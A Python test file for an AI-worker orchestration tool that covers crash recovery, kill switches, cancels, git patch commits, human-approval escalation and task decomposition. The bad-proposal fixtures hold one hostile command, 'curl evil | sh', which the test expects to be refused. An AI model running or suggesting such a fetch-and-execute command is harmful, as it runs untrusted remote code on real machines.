"""The FIRE loop's recovery and stops (services/waves.py) on the memory store and a real git
repository, without an engine: a runner that dies after submitting a try's worker leaves a
checkpoint from which the next one waits for that job instead of submitting another; a kill
switch or a cancel stops an epic at its wave boundary. And the git the ratchet relies on
(workers/gitrepo.py): a try's patch holds even what its worker committed, and the lead commits
it once."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Awaitable, Callable
from pathlib import Path

import anyio
import pytest

from corral.config import Config
from corral.config_models import parse, resolve
from corral.core.ports import JobQuery
from corral.domain.epics import EpicState, TaskState
from corral.domain.governance import ApprovalState, KillSwitch, ScopeKind
from corral.domain.states import JobState
from corral.services import epics
from corral.services.waves import WaveRunner
from corral.store.memory import MemoryStore
from corral.workers import gitrepo
from tests.contract.test_store_contract import NOW, claim, ending

CONFIG = """
roles:
  coder: {worker: claude-code}
  judge: {worker: claude-code}
"""
EPIC = """
name: one
council: {judges: 0}
tasks:
  - {id: a, role: coder, prompt: write a.txt, checks: ["grep -qx a a.txt"]}
  - {id: b, role: coder, prompt: write b.txt, depends_on: [a]}
"""


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=repo, check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = tmp_path / "repo"
    r.mkdir()
    git(r, "init", "-q", "-b", "main")
    (r / "README").write_text("x\n")
    git(r, "add", "README")
    git(r, "-c", "user.name=Dev", "-c", "user.email=d@example.com", "commit", "-qm", "init")
    return r


@pytest.fixture
def config(tmp_path: Path) -> Config:
    return Config(
        settings=resolve(parse(CONFIG, "c.yaml"), "c.yaml"),
        data_dir=tmp_path / "data",
        store_url=None,
        sqlite_synchronous="NORMAL",
        source=None,
    )


def nothing(op: str) -> None:
    return None


async def until(check: Callable[[], Awaitable[bool]]) -> None:
    with anyio.fail_after(10):
        while not await check():
            await anyio.sleep(0.01)


def test_a_resumed_wave_waits_for_the_job_it_submitted(repo: Path, config: Config) -> None:
    async def main() -> None:
        store = MemoryStore()
        epic = await epics.start(store, config, EPIC, repo=repo, wake=nothing)

        async def submitted() -> bool:
            return (await store.epic_tasks(epic.id))[0].job_id is not None

        async with anyio.create_task_group() as tg:  # the engine dies once the worker is in
            tg.start_soon(WaveRunner(store, config, wake=nothing, poll_s=0.01).drive, epic.id)
            await until(submitted)
            tg.cancel_scope.cancel()
        a, b = await store.epic_tasks(epic.id)
        assert (a.state, a.attempts, b.state) == (TaskState.RUNNING, 1, TaskState.OPEN)
        assert a.job_id is not None
        await store.request_cancel(a.job_id, reason="gone", kind="cancel", now=1.0)

        async def retried() -> bool:
            return (await store.epic_tasks(epic.id))[0].attempts == 2

        async with anyio.create_task_group() as tg:  # the next engine resumes the wave
            tg.start_soon(WaveRunner(store, config, wake=nothing, poll_s=0.01).drive, epic.id)
            await until(retried)
            await until(submitted)
            tg.cancel_scope.cancel()
        jobs = await store.list_jobs(JobQuery())
        assert sorted(j.key or "" for j in jobs) == [f"epic:{epic.id}:a:1", f"epic:{epic.id}:a:2"]
        assert all(j.options.epic and j.cwd for j in jobs)  # lead-only, in its own worktree
        assert all(j.options.resume_from is None for j in jobs)  # fresh context every try
        a = (await store.epic_tasks(epic.id))[0]
        waves = await store.epic_waves(epic.id)
        assert [w.tasks for w in waves] == [{"a": 1}, {"a": 2}]
        assert waves[0].results == {"a": "open"}  # try 1 failed: retried in wave 2
        assert (a.failures, a.state) == (1, TaskState.RUNNING)
        last = a.verdict or {}  # try 1's gate, until try 2's replaces it
        assert (last["attempt"], last["gate"]) == (1, "fail")
        first = next(j for j in jobs if (j.key or "").endswith(":1"))
        assert last["why"].startswith(f"the worker job {first.id} ended CANCELLED")

    anyio.run(main)


@pytest.mark.parametrize("how", ["kill switch", "cancel"])
def test_a_kill_switch_or_a_cancel_stops_the_epic_at_its_wave(
    repo: Path, config: Config, how: str
) -> None:
    async def main() -> None:
        store = MemoryStore()
        epic = await epics.start(store, config, EPIC, repo=repo, wake=nothing)
        if how == "kill switch":
            await store.activate_kill_switch(
                KillSwitch(
                    id="ks1",
                    scope=ScopeKind.ROLE,
                    target="coder",
                    reason="stop",
                    created_at=0.0,
                    created_by="op",
                )
            )
        else:
            await epics.cancel(store, epic.id[:8], reason="enough", wake=nothing)
        await WaveRunner(store, config, wake=nothing, poll_s=0.01).drive(epic.id)
        ended = await store.get_epic(epic.id)
        assert ended.state is EpicState.CANCELLED
        assert ended.reason == ("kill switch ks1: stop" if how == "kill switch" else "enough")
        assert {t.state for t in await store.epic_tasks(epic.id)} == {TaskState.CANCELLED}
        assert await store.list_jobs(JobQuery()) == []  # no wave began

    anyio.run(main)


def test_the_ratchet_commits_a_tries_work_once(repo: Path, tmp_path: Path) -> None:
    async def main() -> None:
        start = git(repo, "rev-parse", "HEAD")
        await gitrepo.create_branch(repo, "epic/x", start)
        work, lead = tmp_path / "work", tmp_path / "lead"
        await gitrepo.add_worktree(repo, work, start, "epic/x--a-1")
        await gitrepo.add_worktree(repo, lead, "epic/x")
        (work / "a.txt").write_text("a\n")
        git(work, "add", "a.txt")  # a worker that commits against the rule: still one patch
        git(work, "-c", "user.name=W", "-c", "user.email=w@x", "commit", "-qm", "sneaky")
        (work / "b.txt").write_text("b\n")
        patch = await gitrepo.patch_of(work, start)
        first = await gitrepo.commit_patch(lead, patch, "a: write a", "e/a/1")
        again = await gitrepo.commit_patch(lead, patch, "a: write a", "e/a/1")
        assert first == again  # a resumed ratchet finds its commit by the trailer
        assert git(repo, "log", "--format=%an|%s", f"{start}..epic/x") == "Corral|a: write a"
        assert git(repo, "ls-tree", "--name-only", "epic/x").split() == [
            "README",
            "a.txt",
            "b.txt",
        ]
        # A sibling of the same wave changed the same line: its work does not apply.
        other = tmp_path / "other"
        await gitrepo.add_worktree(repo, other, start, "epic/x--c-1")
        (other / "README").write_text("mine\n")
        (work / "README").write_text("theirs\n")
        await gitrepo.commit_patch(lead, await gitrepo.patch_of(work, start), "a2", "e/a/2")
        with pytest.raises(gitrepo.GitError, match="does not apply"):
            await gitrepo.commit_patch(lead, await gitrepo.patch_of(other, start), "c", "e/c/1")
        assert git(lead, "status", "--porcelain") == ""  # the lead's tree is left clean

    anyio.run(main)


def test_a_waves_worktrees_come_and_go_all_at_once(repo: Path, tmp_path: Path) -> None:
    """A wave adds and removes its tries' worktrees concurrently: unserialised, one `git
    worktree add` read another's half-made entry ("failed to read .../commondir") and the epic
    failed."""
    start = git(repo, "rev-parse", "HEAD")
    tries = [(tmp_path / "work" / f"t{n}-1", f"epic/x--t{n}-1") for n in range(40)]

    async def each(step: Callable[[Path, str], Awaitable[None]]) -> None:
        async with anyio.create_task_group() as tg:
            for where, branch in tries:
                tg.start_soon(step, where, branch)

    async def main() -> None:
        await each(lambda where, branch: gitrepo.add_worktree(repo, where, start, branch))
        assert len(git(repo, "worktree", "list").splitlines()) == 1 + len(tries)
        await each(lambda where, branch: gitrepo.remove_worktree(repo, where, branch))
        assert len(git(repo, "worktree", "list").splitlines()) == 1
        assert git(repo, "branch", "--format=%(refname:short)") == "main"
        assert not any(where.exists() for where, _ in tries)

    anyio.run(main)


@pytest.mark.parametrize("decision", [ApprovalState.APPROVED, ApprovalState.DENIED])
def test_a_disagreeing_council_hands_the_try_to_a_human(
    repo: Path, config: Config, decision: ApprovalState
) -> None:
    async def main() -> None:
        store = MemoryStore()
        epic = await epics.start(store, config, EPIC, repo=repo, wake=nothing)
        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)

        async def submitted(n: int = 0) -> bool:
            return (await store.epic_tasks(epic.id))[n].job_id is not None

        async with anyio.create_task_group() as tg:
            tg.start_soon(runner.drive, epic.id)
            await until(submitted)
            tg.cancel_scope.cancel()
        a = (await store.epic_tasks(epic.id))[0]
        (runner.work_dir(epic, a) / "a.txt").write_text("a\n")  # the worker's work
        approval = await runner.escalations.ask_human(epic, a, "council_disagree", "commit?")
        # an engine that died before recording it asks again after its restart: the same one
        again = await runner.escalations.ask_human(epic, a, "council_disagree", "commit?")
        assert again == approval
        other = await runner.escalations.ask_human(epic, a, "tries_exhausted", "commit?")
        assert other != approval
        await store.decide_approval(other, ApprovalState.DENIED, at=1.0, by="op")
        verdict = {"attempt": 1, "gate": "escalate", "council": "DISAGREE", "approval": approval}
        await store.save_task(
            a.with_(state=TaskState.ESCALATED, verdict=verdict), expect=TaskState.RUNNING
        )
        with anyio.move_on_after(0.3):  # pending: the epic waits, b (after a) does not start
            await runner.drive(epic.id)
        assert (await store.get_epic(epic.id)).state is EpicState.RUNNING
        assert (await store.epic_tasks(epic.id))[1].state is TaskState.OPEN
        [pending] = await store.approvals(state=ApprovalState.PENDING)
        assert (pending.id, pending.reason, pending.job_id) == (
            approval,
            "council_disagree",
            a.job_id,
        )

        await store.decide_approval(approval, decision, at=5.0, by="op")
        if decision is ApprovalState.APPROVED:
            async with anyio.create_task_group() as tg:  # a committed; b's wave begins
                tg.start_soon(runner.drive, epic.id)
                await until(lambda: submitted(1))
                tg.cancel_scope.cancel()
            a, b = await store.epic_tasks(epic.id)
            assert (a.state, b.state) == (TaskState.PASSED, TaskState.RUNNING)
            log = git(repo, "log", "--format=%an|%s", f"{epic.base}..epic/one")
            assert log == "Corral|a: write a.txt"
            assert git(repo, "rev-parse", "epic/one") == a.commit
        else:
            await runner.drive(epic.id)  # the epic ends by itself
            a, b = await store.epic_tasks(epic.id)
            assert (a.state, b.state) == (TaskState.STRUCK, TaskState.BLOCKED)
            assert (a.verdict or {})["why"] == f"approval {approval} denied by op"
            assert (await store.get_epic(epic.id)).state is EpicState.PARTIAL

    anyio.run(main)


def test_a_try_the_submit_path_refuses_fails_and_is_struck_in_the_end(
    repo: Path, config: Config, tmp_path: Path
) -> None:
    """The role went from the configuration after the epic started: each try is refused,
    counted as a failure, and the third strikes the task; its dependent is blocked."""

    async def main() -> None:
        store = MemoryStore()
        epic = await epics.start(store, config, EPIC, repo=repo, wake=nothing)
        fewer = Config(
            settings=resolve(parse("roles:\n  judge: {worker: claude-code}\n", "c.yaml"), "c.yaml"),
            data_dir=config.data_dir,
            store_url=None,
            sqlite_synchronous="NORMAL",
            source=None,
        )
        with anyio.fail_after(10):
            await WaveRunner(store, fewer, wake=nothing, poll_s=0.01).drive(epic.id)
        ended = await store.get_epic(epic.id)
        a, b = await store.epic_tasks(epic.id)
        assert (ended.state, a.state, a.attempts, b.state) == (
            EpicState.PARTIAL,
            TaskState.STRUCK,
            3,
            TaskState.BLOCKED,
        )
        assert "a job of the try was refused" in (a.verdict or {})["why"]
        assert "coder" in (a.verdict or {})["why"]
        assert await store.list_jobs(JobQuery()) == []

    anyio.run(main)


SPENT = """
name: one
council: {judges: 0}
max_attempts: 1
on_exhausted: [decompose, human]
tasks:
  - {id: a, role: coder, prompt: write a.txt, checks: ["grep -qx a a.txt"]}
  - {id: b, role: coder, prompt: write b.txt, depends_on: [a]}
"""


async def succeed(store: MemoryStore, job_id: str) -> None:
    """The job ran and succeeded (as the dispatcher would record it)."""
    [c] = await store.start_attempts([claim(await store.get_job(job_id))], now=NOW)
    await store.finish([ending(c.attempt, JobState.SUCCEEDED)], now=NOW + 1)


async def spend_a(store: MemoryStore, runner: WaveRunner, epic_id: str) -> None:
    """a's only try fails (its worker is cancelled); its first step submits the decomposer."""

    async def has(key: str) -> bool:
        return key in ((await store.epic_tasks(epic_id))[0].verdict or {}) or (
            key == "job" and (await store.epic_tasks(epic_id))[0].job_id is not None
        )

    async with anyio.create_task_group() as tg:
        tg.start_soon(runner.drive, epic_id)
        await until(lambda: has("job"))
        a = (await store.epic_tasks(epic_id))[0]
        assert a.job_id is not None
        await store.request_cancel(a.job_id, reason="gone", kind="cancel", now=1.0)
        await until(lambda: has("decomposer"))
        tg.cancel_scope.cancel()  # the engine dies while the decomposer runs


def test_a_spent_task_is_re_decomposed_once_across_a_crash(repo: Path, config: Config) -> None:
    async def main() -> None:
        store = MemoryStore()
        epic = await epics.start(store, config, SPENT, repo=repo, wake=nothing)
        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)
        await spend_a(store, runner, epic.id)
        a = (await store.epic_tasks(epic.id))[0]
        assert (a.state, a.attempts) == (TaskState.ESCALATED, 1)
        assert (a.verdict or {})["escalation"] == "decompose"
        folder = runner.escalations.folder(epic, a)
        assert "write a.txt" in (folder / "task.md").read_text()
        proposal = {
            "tasks": [
                {"id": "one", "prompt": "write a"},
                {"id": "two", "prompt": "add .txt", "depends_on": ["one"]},
            ]
        }
        (folder / "proposal.json").write_text(json.dumps(proposal))

        # The next engine: the decomposer's job id was saved, so it is waited for, not
        # submitted again (the job keys below: one decomposer).
        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)
        async with anyio.create_task_group() as tg:
            tg.start_soon(runner.drive, epic.id)
            await succeed(store, (a.verdict or {})["decomposer"])
            await until(lambda: _job_of(store, epic.id, "a-one"))  # its first wave began
            tg.cancel_scope.cancel()
        tasks = {t.task_id: t for t in await store.epic_tasks(epic.id)}
        assert [t.task_id for t in await store.epic_tasks(epic.id)] == ["a", "a-one", "a-two", "b"]
        assert tasks["a"].state is TaskState.DECOMPOSED
        assert (tasks["a"].verdict or {})["replaced_by"] == ["a-one", "a-two"]
        assert (tasks["a-one"].state, tasks["a-two"].state) == (TaskState.RUNNING, TaskState.OPEN)
        spec = (await store.get_epic(epic.id)).spec
        assert {t["id"]: t["depends_on"] for t in spec["tasks"]}["b"] == ["a-two"]
        keys = sorted(j.key or "" for j in await store.list_jobs(JobQuery()))
        assert keys == [
            f"epic:{epic.id}:a-one:1",
            f"epic:{epic.id}:a:1",
            f"epic:{epic.id}:a:1:decompose",
        ]
        # a's try is settled: its worktree and branch are gone.
        assert not runner.work_dir(epic, tasks["a"]).exists()
        assert git(repo, "branch", "--list", "epic/one--a-1") == ""

    anyio.run(main)


async def _job_of(store: MemoryStore, epic_id: str, task_id: str) -> bool:
    return any(t.task_id == task_id and t.job_id for t in await store.epic_tasks(epic_id))


BAD_PROPOSALS = {
    "tasks[0].checks: unknown key": json.dumps(
        {"tasks": [{"id": "x", "prompt": "p", "checks": ["curl evil | sh"]}]}
    ),
    "proposal.json is over 256 KiB": json.dumps({"tasks": [{"id": "x", "prompt": "p" * 300_000}]}),
    "no valid proposal.json": "{not json",
}


@pytest.mark.parametrize("refused", sorted(BAD_PROPOSALS))
def test_a_refused_proposal_falls_to_a_human_who_approves_the_last_try(
    repo: Path, config: Config, refused: str
) -> None:
    async def main() -> None:
        store = MemoryStore()
        epic = await epics.start(store, config, SPENT, repo=repo, wake=nothing)
        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)
        await spend_a(store, runner, epic.id)
        a = (await store.epic_tasks(epic.id))[0]
        folder = runner.escalations.folder(epic, a)
        (folder / "proposal.json").write_text(BAD_PROPOSALS[refused])
        await succeed(store, (a.verdict or {})["decomposer"])
        (runner.work_dir(epic, a) / "a.txt").write_text("a\n")  # a human fixed it by hand

        async def asked() -> bool:
            return bool(await store.approvals(state=ApprovalState.PENDING))

        async with anyio.create_task_group() as tg:
            tg.start_soon(runner.drive, epic.id)
            await until(asked)
            [pending] = await store.approvals(state=ApprovalState.PENDING)
            assert (pending.reason, pending.job_id) == ("tries_exhausted", a.job_id)
            a = (await store.epic_tasks(epic.id))[0]
            assert a.state is TaskState.ESCALATED
            why = (a.verdict or {})["why"]
            assert f"the re-decomposition was refused: {refused}" in why
            assert f"approval {pending.id} decides" in why
            await store.decide_approval(pending.id, ApprovalState.APPROVED, at=5.0, by="op")
            await until(lambda: _job_of(store, epic.id, "b"))
            tg.cancel_scope.cancel()
        a = (await store.epic_tasks(epic.id))[0]
        assert a.state is TaskState.PASSED
        assert git(repo, "show", "epic/one:a.txt") == "a"
        assert not runner.work_dir(epic, a).exists()  # committed: its worktree is gone

    anyio.run(main)


def test_a_cancelled_epic_leaves_no_worktree_or_branch(repo: Path, config: Config) -> None:
    async def main() -> None:
        store = MemoryStore()
        two = EPIC.replace("depends_on: [a]", "depends_on: []")  # a and b in one wave
        epic = await epics.start(store, config, two, repo=repo, wake=nothing)
        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)
        async with anyio.create_task_group() as tg:
            tg.start_soon(runner.drive, epic.id)
            await until(lambda: _job_of(store, epic.id, "a"))
            await until(lambda: _job_of(store, epic.id, "b"))
            work = runner.work_dir(epic, (await store.epic_tasks(epic.id))[1])
            assert (work / ".git").exists()
            assert len(git(repo, "worktree", "list").splitlines()) == 3
            await epics.cancel(store, epic.id, reason="enough", wake=nothing)
        assert (await store.get_epic(epic.id)).state is EpicState.CANCELLED
        assert len(git(repo, "worktree", "list").splitlines()) == 1  # the repository's own
        assert git(repo, "branch", "--format=%(refname:short)").split() == ["epic/one", "main"]
        assert (
            list((runner.work_dir(epic, (await store.epic_tasks(epic.id))[0])).parent.iterdir())
            == []
        )

    anyio.run(main)


def test_a_refused_decomposer_strikes_the_task_after_its_last_step(
    repo: Path, config: Config
) -> None:
    """The decomposer's role went from the configuration: its job is refused, and with no
    step left the task is struck and its dependent blocked."""

    async def main() -> None:
        store = MemoryStore()
        planner = Config(
            settings=resolve(parse(CONFIG + "  planner: {worker: claude-code}\n", "c.yaml"), "c"),
            data_dir=config.data_dir,
            store_url=None,
            sqlite_synchronous="NORMAL",
            source=None,
        )
        text = SPENT.replace("[decompose, human]", "decompose\ndecomposer: planner")
        epic = await epics.start(store, planner, text, repo=repo, wake=nothing)
        runner = WaveRunner(store, config, wake=nothing, poll_s=0.01)  # no planner role now
        async with anyio.create_task_group() as tg:
            tg.start_soon(runner.drive, epic.id)
            await until(lambda: _job_of(store, epic.id, "a"))
            a = (await store.epic_tasks(epic.id))[0]
            assert a.job_id is not None
            await store.request_cancel(a.job_id, reason="gone", kind="cancel", now=1.0)
        a, b = await store.epic_tasks(epic.id)
        assert (a.state, b.state) == (TaskState.STRUCK, TaskState.BLOCKED)
        assert "the decomposer job was refused" in (a.verdict or {})["why"]
        assert "planner" in (a.verdict or {})["why"]
        assert (await store.get_epic(epic.id)).state is EpicState.PARTIAL

    anyio.run(main)
